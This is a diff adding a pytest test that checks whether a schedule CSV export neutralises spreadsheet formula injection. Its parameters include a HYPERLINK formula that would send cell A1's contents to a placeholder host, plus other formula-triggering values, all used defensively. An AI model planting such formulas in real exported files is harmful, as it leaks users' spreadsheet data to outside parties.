@@ -239,6 +239,23 @@ def test_schedule_import_with_line_numbered_errors_then_export(client_as, db, pl
     assert f"1101,{day},10:00,12:00,School" in exported
 
 
+@pytest.mark.parametrize("point", ['=HYPERLINK("http://x.example/?"&A1,"Мектеп")', "+7 школа", "-1+2", "@SUM(A1)"])
+def test_the_export_neutralises_cells_a_spreadsheet_would_run(client_as, db, place, point):
+    import csv
+
+    from hotline.core.clock import now_local
+
+    client = client_as("coordinator")
+    day = (now_local() + timedelta(days=10)).date().isoformat()
+    upload = io.StringIO()
+    csv.writer(upload).writerows([["place_code", "date", "start", "end", "meeting_point"],
+                                  ["1101", day, "10:00", "12:00", point]])
+    assert client.post("/admin/schedule/import", data={"file": (io.BytesIO(upload.getvalue().encode()), "s.csv")},
+                       content_type="multipart/form-data").status_code == 302
+    rows = list(csv.reader(io.StringIO(client.get("/admin/schedule/export.csv").get_data(as_text=True))))
+    assert rows[1] == ["1101", day, "10:00", "12:00", "'" + point]  # read as text, shown as typed
+
+
 def test_an_upload_that_is_not_utf8_names_the_line_not_a_temporary_file(client_as, db, place):
     client = client_as("coordinator")
     data = "place_code,date,start,end,meeting_point\n1101,2030-01-10,10:00,12:00,Мектеп\n".encode("cp1251")
